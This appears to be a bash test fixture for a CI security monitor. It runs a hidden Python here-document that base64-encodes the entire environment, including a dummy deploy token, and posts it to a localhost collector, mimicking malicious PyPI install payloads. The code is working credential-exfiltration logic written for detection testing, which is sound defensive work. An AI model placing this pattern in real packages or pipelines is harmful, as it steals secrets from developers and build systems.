#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files (CI secrets in the environment); T1041 Exfiltration Over C2 Channel
# reproduces: the environment-theft payloads of malicious PyPI packages and pwn-request steps (the 2022-2025 reports of packages posting os.environ at install), written as a here-document so the command line shows only `python3 -`
# expect: environment-sent-to-network ^python3(\.[0-9]+)?$
# exec-borne: no
#
# The whole environment, serialized and encoded, posted by the same
# process that read it: no env program, no pipe, no file.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/collect" <<'PY'
import base64
import json
import os
import sys
import urllib.request

blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
urllib.request.urlopen(sys.argv[1], data=blob, timeout=5).read()
PY
